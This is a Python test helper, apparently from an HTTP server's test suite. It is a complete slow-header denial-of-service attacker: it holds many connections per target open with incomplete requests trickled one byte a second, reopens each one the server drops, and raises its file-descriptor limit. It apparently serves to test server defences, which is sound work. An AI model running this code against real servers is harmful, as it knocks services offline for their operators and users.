"""A slow-header attacker, run as its own process: ``python -m tests.http.flood_attacker
--per-listener N --seconds S HOST:PORT ...``.

For each target it holds N connections, each sending an incomplete request (``GET / HTTP/1.1``
and a Host header, never the blank line) and then one more header byte every second; a
connection the server closes is reopened at once. It prints one JSON line at the end: how many
connections it opened and how many the servers closed.
"""

from __future__ import annotations

import argparse
import json
import resource
import selectors
import signal
import socket
import time

TRICKLE_S = 1.0
HEAD = b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: "


def _open(target: tuple[str, int]) -> socket.socket | None:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setblocking(False)
    try:
        sock.connect_ex(target)
    except OSError:
        sock.close()
        return None
    return sock


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--per-listener", type=int, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("targets", nargs="+")
    args = parser.parse_args()
    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    targets = []
    for text in args.targets:
        host, _, port = text.rpartition(":")
        targets.append((host, int(port)))
    selector = selectors.DefaultSelector()
    # socket → [target, bytes sent so far]
    state: dict[socket.socket, list] = {}
    opened = closed = 0

    def reopen(target: tuple[str, int]) -> None:
        nonlocal opened
        sock = _open(target)
        if sock is None:
            return
        opened += 1
        state[sock] = [target, 0]
        selector.register(sock, selectors.EVENT_READ)

    for target in targets:
        for _ in range(args.per_listener):
            reopen(target)
    end = time.monotonic() + args.seconds

    def stop(_signum: int, _frame: object) -> None:
        nonlocal end
        end = 0.0

    signal.signal(signal.SIGTERM, stop)
    next_trickle = time.monotonic()
    while time.monotonic() < end:
        for key, _ in selector.select(timeout=0.1):
            sock = key.fileobj
            try:
                data = sock.recv(4096)  # type: ignore[union-attr]
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if not data:
                target = state.pop(sock)[0]  # type: ignore[index]
                selector.unregister(sock)
                sock.close()  # type: ignore[union-attr]
                closed += 1
                reopen(target)
        now = time.monotonic()
        if now >= next_trickle:
            next_trickle = now + TRICKLE_S
            for sock, entry in list(state.items()):
                sent = entry[1]
                chunk = HEAD if sent == 0 else b"a"
                try:
                    sock.send(chunk)
                    entry[1] = sent + len(chunk)
                except (BlockingIOError, InterruptedError):
                    pass
                except OSError:
                    pass  # the reader sees the close and reopens
    for sock in state:
        sock.close()
    print(json.dumps({"opened": opened, "closed_by_servers": closed}), flush=True)


if __name__ == "__main__":
    main()
